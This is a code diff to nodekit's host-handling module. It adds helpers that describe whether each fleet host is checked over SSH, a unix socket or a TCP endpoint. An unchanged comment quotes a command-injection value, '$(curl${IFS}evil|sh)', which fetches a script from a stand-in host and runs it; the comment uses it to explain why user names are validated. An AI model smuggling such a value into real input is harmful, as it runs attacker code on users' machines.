@@ -11,7 +11,7 @@ from __future__ import annotations
 import ipaddress
 import re
 import shlex
-from collections.abc import Sequence
+from collections.abc import Iterable, Sequence
 from dataclasses import dataclass
 from pathlib import Path
 from typing import TYPE_CHECKING
@@ -33,6 +33,12 @@ _FORMS = "write it as ssh://user@host (or ssh://user@host:2222, tcp://host:2376,
 # $(curl${IFS}evil|sh), would be printed inside the Fix commands nodekit tells the user to paste into a shell.
 _USER = re.compile(r"[A-Za-z0-9._][A-Za-z0-9._-]*")
 HOSTS_FIX = 'hosts = ["ssh://user@10.0.0.5", "ssh://user@10.0.0.6"] in nodekit.toml, or --hostfile FILE'
+# How a host is reached for its check, by its endpoint's scheme: a unix:// engine is on this machine, no SSH involved.
+REACHED = {
+    "ssh": "over SSH",
+    "unix": "on this machine, through its engine's socket",
+    "tcp": "through its engine's TCP endpoint",
+}
 
 
 @dataclass(frozen=True)
@@ -239,3 +245,18 @@ def left_out(settings: Settings, hosts: Sequence[FleetHost], hostfile: Path | No
     """The hosts (or hostfile entries) past ``nnodes`` that a stated ``--nnodes`` leaves out of the job."""
     urls = [u for u, _ in read_hostfile(hostfile)] if hostfile is not None else list(settings.hosts)
     return urls[len(hosts) :]
+
+
+def hosts_checked(hosts: Iterable[FleetHost]) -> str:
+    """Pure: how ``hosts`` are checked before anything starts ("every host is checked over SSH" when all are
+    ``ssh://``; each kind named where they are mixed)."""
+    kinds = list(dict.fromkeys(h.scheme for h in hosts))
+    if len(kinds) == 1:
+        return f"every host is checked {REACHED[kinds[0]]}"
+    return "every host is checked: " + ", ".join(f"{k}:// hosts {REACHED[k]}" for k in kinds)
+
+
+def check_items(hosts: Iterable[FleetHost]) -> str:
+    """Pure: what each host's check covers, as the run's progress names it (SSH only where an ``ssh://`` host is)."""
+    ssh = "SSH, " if any(h.scheme == "ssh" for h in hosts) else ""
+    return f"{ssh}Docker engine and Compose, GPUs, ports on main, the image"
